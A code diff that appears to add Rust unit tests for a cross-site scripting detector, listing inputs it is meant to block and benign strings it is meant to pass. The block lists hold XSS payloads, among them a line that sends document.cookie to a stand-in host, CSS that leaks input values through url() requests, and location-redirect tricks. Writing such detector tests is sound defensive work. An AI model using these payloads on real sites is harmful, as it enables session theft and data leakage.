@@ -40,6 +40,66 @@ fn passes(text: &str) {
     assert!(!blocks(text), "{text}: {}", kinds(text));
 }
 
+/// What is assigned to may stand in a pattern, in parentheses or before `of`; an expression of a template
+/// literal runs as it stands.
+#[test]
+fn assignments_in_patterns() {
+    use crate::detectors::testing::{blocks, passes_at};
+    for text in [
+        "';[location]=['//a.example/x'];'",
+        "';({x:location}={x:'//a.example/x'});'",
+        "';(location)=name;'",
+        "';[top.location]=[name];'",
+        "';[document.body.innerHTML]=[name];'",
+        "';for(location of[name]);'",
+        "';class a{[location=name]};'",
+        "';class a{static{location='//a.example'}};'",
+        "';document.body.background='//a.example/x';'",
+        "${location=name}",
+        "${[location=name]}",
+        "${(x=>location=name)()}",
+        "${open(`//a.example/x`)}",
+        "new Image().src='//a.example/'+document.cookie",
+    ] {
+        blocks(Class::Xss, text, "");
+    }
+    for text in [
+        "[location] of the shop",
+        "location of [the] shop",
+        "${order.total} and ${location.name}",
+        "(location) = where we are",
+        "for (location of the shop)",
+    ] {
+        passes_at(Class::Xss, Place::Query, "q", text);
+        passes_at(Class::Xss, Place::Json, "name", text);
+    }
+}
+
+/// A value that ends the rule of a style which it stands in, and an address in a tag as no editor writes it.
+#[test]
+fn styles_and_addresses_from_elsewhere() {
+    use crate::detectors::testing::{blocks, passes_at};
+    for text in [
+        "red}input[value^=a]{background:url(//a.example/a)}",
+        "red}*{cursor:url(//a.example/x),auto}",
+        "<video src=//a.example autoplay>",
+        "<img srcset=//a.example/x.png>",
+        "<a id=config href=//a.example/x.js>",
+    ] {
+        blocks(Class::Xss, text, "");
+    }
+    for text in [
+        "red",
+        "url(/img/a.png)",
+        "a{color:red}b{background:url(//a.example/x.png)}",
+        "<img src=\"//a.example/x.png\">",
+        "<a href='//a.example'>x</a>",
+        "<img src=/x.png>",
+    ] {
+        passes_at(Class::Xss, Place::Form, "color", text);
+    }
+}
+
 #[test]
 fn scripts() {
     check("<script>alert(1)</script>", "script-sink");
